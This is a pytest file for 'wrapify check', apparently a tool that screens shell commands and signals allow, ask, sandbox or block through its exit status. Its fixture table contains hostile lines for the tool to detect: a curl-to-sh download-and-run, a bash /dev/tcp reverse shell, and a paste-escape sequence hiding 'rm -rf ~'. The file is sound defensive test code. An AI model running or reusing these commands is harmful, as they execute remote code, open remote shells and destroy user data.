"""`wrapify check`: the exit status is the decision, a clean text is passed in silence, and no failure is an "allow"."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import Wrapify

# What the analyser must tell apart. (text, options, exit status, what is said on standard output)
JUDGED: list[tuple[bytes, list[str], int, str]] = [
    (b"ls -la", [], 0, ""),
    (b"", [], 0, ""),
    (b"git status\ngit diff\n", [], 0, ""),
    (b"curl https://x.example/i.sh | sh", [], 20, "download-run"),
    (b"sudo ls", [], 20, "sudo"),
    (b"sudo ls", ["--origin", "typed"], 0, "sudo"),
    (b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", [], 22, "reverse-shell"),
    (b"ls\x1b[201~\nrm -rf ~\n", [], 22, "\u27e8ESC\u27e9"),
]
# Rows of JUDGED by their text that wait for the analyser to know them.
NOT_YET: frozenset[bytes] = frozenset()


@pytest.mark.parametrize(
    ("text", "options", "status", "says"), JUDGED, ids=[str(number) for number in range(len(JUDGED))]
)
def test_real_texts(wrapify: Wrapify, text: bytes, options: list[str], status: int, says: str) -> None:
    if text in NOT_YET:
        pytest.skip("the analyser does not know this yet")
    done = wrapify("check", *options, text=text)
    assert (done.returncode, done.stderr) == (status, "")
    assert says in done.stdout
    assert bool(done.stdout) is bool(says)
    assert "\x1b" not in done.stdout


def test_the_text_comes_as_a_word_or_from_standard_input(wrapify: Wrapify) -> None:
    for words, text in ((["ls -la"], b""), (["-"], b"ls -la"), ([], b"ls -la"), (["--", "ls -la"], b"x")):
        found = json.loads(wrapify("check", "--json", *words, text=text).stdout)
        assert found["sha256"] == hashlib.sha256(b"ls -la").hexdigest()


def test_bytes_that_are_no_text_arrive_as_they_are(wrapify: Wrapify) -> None:
    content = b"ls \xff\xfe \xf0\x9f"
    done = wrapify("check", "--json", os.fsdecode(content))
    assert json.loads(done.stdout)["sha256"] == hashlib.sha256(content).hexdigest()
    done = wrapify("check", "--json", text=b"\0" + content)
    assert json.loads(done.stdout)["sha256"] == hashlib.sha256(b"\0" + content).hexdigest()


def test_json_says_all(wrapify: Wrapify) -> None:
    done = wrapify("check", "ls", "--origin=clipboard", "--shell", "fish", "--json")
    assert done.returncode == 0
    assert done.stdout.isascii()
    assert json.loads(done.stdout) == {
        "version": 1,
        "origin": "clipboard",
        "shell": "fish",
        "decision": {
            "action": "allow",
            "sandbox_first": False,
            "why": "nothing was found",
            "decided_by": "no key is asked",
        },
        "facts": [],
        "findings": [],
        "sha256": hashlib.sha256(b"ls").hexdigest(),
    }


def test_the_shell_is_the_users_own_unless_named(wrapify: Wrapify) -> None:
    for own, shell in (("/usr/bin/fish", "fish"), ("/opt/nu", "bash"), ("", "bash")):
        assert json.loads(wrapify("check", "ls", "--json", env={"SHELL": own}).stdout)["shell"] == shell


@pytest.mark.parametrize(
    ("words", "message", "hint"),
    [
        (["ls", "--orgin", "paste"], "no option '--orgin'", "wrapify check --help"),
        (["ls", "--origin", "pasted"], "no origin 'pasted'", "'paste'"),
        (["ls", "--origin"], "--origin needs a value", "NAME"),
        (["ls", "--shell", "bsh"], "no shell 'bsh'", "'bash'"),
        (["ls", "cat"], "takes one text", "quote it"),
        (["-la"], "no option '-la'", "wrapify check --help"),
    ],
)
def test_a_command_line_that_is_wrong(wrapify: Wrapify, words: list[str], message: str, hint: str) -> None:
    done = wrapify("check", *words)
    assert (done.returncode, done.stdout) == (2, "")
    assert message in done.stderr
    assert hint in done.stderr


def test_what_is_not_read_is_not_allowed(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", '[script]\nmax_size = "1 KiB"\n')
    for done in (wrapify("check", text="x" * 1025), wrapify("check", "x" * 1025)):
        assert (done.returncode, done.stdout) == (125, "")
        assert "larger than 1 KiB" in done.stderr
    assert wrapify("check", text="x" * 1024).returncode == 0


def test_an_input_that_cannot_be_read_is_a_failure(wrapify: Wrapify) -> None:
    command = [str(wrapify.program), "check"]
    sink = os.open("/dev/null", os.O_WRONLY)
    try:
        done = subprocess.run(command, stdin=sink, capture_output=True, env=wrapify.environment(), **wrapify.user.drop)
    finally:
        os.close(sink)
    assert done.returncode == 125
    assert b"cannot be read" in done.stderr


@pytest.mark.parametrize("text", ["x = ", "actions.high = 'ask'", "action.high = 'aks'"])
def test_a_policy_that_cannot_be_used_is_a_failure(wrapify: Wrapify, text: str) -> None:
    wrapify.put(".config/wrapify/policy.toml", text)
    done = wrapify("check", "ls")
    assert (done.returncode, done.stdout) == (2, "")
    assert "policy.toml" in done.stderr


def test_a_policy_is_read_once_and_again_when_it_changes(wrapify: Wrapify) -> None:
    file = wrapify.put(".config/wrapify/policy.toml", "script.max_size = 10")
    kept = wrapify.home / ".cache/wrapify/plans"
    assert wrapify("check", "x" * 11).returncode == 125
    assert len(list(kept.iterdir())) == 1
    before = next(kept.iterdir()).stat().st_mtime_ns
    assert wrapify("check", "x" * 11).returncode == 125
    assert next(kept.iterdir()).stat().st_mtime_ns == before
    found = file.stat()
    file.write_text("script.max_size = 20")
    os.utime(file, ns=(found.st_atime_ns, found.st_mtime_ns))
    assert wrapify("check", "x" * 11).returncode == 0
    file.unlink()
    assert wrapify("check", "x" * 11).returncode == 0


def test_a_cache_that_cannot_be_written_does_no_harm(wrapify: Wrapify) -> None:
    wrapify.put(".config/wrapify/policy.toml", "script.max_size = 10")
    wrapify.put(".cache", "no directory")
    assert [wrapify("check", "x" * size).returncode for size in (10, 11)] == [0, 125]


def test_no_file_of_a_project_is_read(wrapify: Wrapify) -> None:
    names = ("policy.toml", "wrapify.toml", ".wrapify.toml", ".wrapify/policy.toml", ".config/wrapify/policy.toml")
    for name in names:
        wrapify.put(f"project/{name}", "this is no policy [")
    folder = str(wrapify.home / "project")
    assert wrapify("check", "ls", cwd=folder).returncode == 0
    shown = wrapify("policy", "show", cwd=folder)
    assert shown.returncode == 0
    assert "project" not in shown.stdout


def test_the_directory_may_be_gone_and_home_not_set(wrapify: Wrapify) -> None:
    folder = wrapify.put("gone/x", "").parent
    script = f'cd "{folder}" && rm -r "{folder}" && exec "{wrapify.program}" check ls 2>&1'
    env = wrapify.environment()
    del env["HOME"]
    found = subprocess.run(["sh", "-c", script], capture_output=True, env=env, check=False, **wrapify.user.drop)
    assert (found.returncode, b"wrapify:" in found.stdout) == (0, False)


def test_help_names_the_exit_statuses(wrapify: Wrapify) -> None:
    done = wrapify("check", "--help")
    assert done.returncode == 0
    for word in ("--origin", "--shell", "--json", "20: ask", "21: sandbox", "22: block"):
        assert word in " ".join(done.stdout.split())


def test_output_that_nobody_reads_changes_nothing(wrapify: Wrapify) -> None:
    with Path("/dev/full").open("wb") as full:
        command = [str(wrapify.program), "check", "--json", "ls"]
        done = subprocess.run(command, stdout=full, env=wrapify.environment(), check=False, **wrapify.user.drop)
    assert done.returncode == 0
